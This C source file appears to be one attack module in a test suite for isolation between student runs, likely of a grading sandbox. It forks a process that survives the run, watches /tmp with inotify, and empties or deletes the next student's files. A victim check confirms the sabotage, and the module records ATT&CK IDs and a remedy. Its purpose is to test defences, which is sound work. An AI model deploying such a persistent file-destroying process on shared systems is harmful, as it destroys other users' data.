// SPDX-License-Identifier: MIT
/*
 * Goal:  the next student's work fails.
 * Means: a survivor with an inotify watch on /tmp. It is told when the next student has written a
 *        file, and empties it before it is read again.
 */
#include "attacks/persistence/survivor.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static _Noreturn void survive(int watch)
{
	char news[4096];
	ssize_t n;

	slip_away_with(watch);
	alarm(LIFE_MS / 1000 + 1);
	while ((n = read(STDIN_FILENO, news, sizeof(news))) > 0)
		for (char *at = news; at < news + n;) {
			struct inotify_event *e = (struct inotify_event *)at;
			char path[300];

			snprintf(path, sizeof(path), "/tmp/%s", e->len ? e->name : "");
			if (e->len && truncate(path, 0))
				unlink(path);
			at += sizeof(*e) + e->len;
		}
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	int watch = inotify_init1(0), line[2];
	pid_t child;

	attempting(b);
	if (watch < 0 || inotify_add_watch(watch, "/tmp", IN_CLOSE_WRITE | IN_MOVED_TO) < 0)
		return denied("inotify");
	open_line(line);
	child = fork();
	if (!child)
		survive(watch);
	return child < 0 ? denied("fork") : until_gone(line);
}

/* Writes down a result, is busy, and reads it back. */
static enum claim victim(const struct brief *b)
{
	char path[128], text[128] = "";
	int fd;

	snprintf(path, sizeof(path), "/tmp/%s.txt", b->name);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0)
		memmove(path, path + 5, strlen(path + 5) + 1);
	if (fd < 0)
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0 || write(fd, b->secret, strlen(b->secret)) < 0 || close(fd))
		return failed(path);
	pause_ms(300);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, text, sizeof(text) - 1) < 0)
		return failed("read it back");
	errno = EILSEQ;
	return strcmp(text, b->secret) ? failed("what was written") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student's file is emptied by the last one's process",
	.means = "a survivor with an inotify watch on /tmp",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.attack_id = "T1485, T1543, CWE-459",
	.remedy = "end every process of a run before the next starts; a folder for each student",
	.refs = (const char *const[]){ "inotify(7)", NULL },
	.run = run,
	.victim = victim,
};
